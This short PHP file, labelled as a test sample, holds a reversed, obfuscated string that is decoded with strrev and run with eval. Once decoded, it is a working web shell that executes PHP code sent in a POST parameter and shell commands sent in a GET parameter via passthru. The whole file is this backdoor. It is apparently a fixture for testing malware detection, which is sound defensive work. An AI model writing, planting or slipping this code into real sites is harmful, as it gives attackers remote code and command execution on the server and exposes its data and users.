<?php
// Test sample: reversed payload.
$s = '};)]\'k\'[TEG_$(urhtssap{))]\'k\'[TEG_$(tessi(fi ;)]\'x\'[TSOP_$(lave@';
eval(strrev($s));
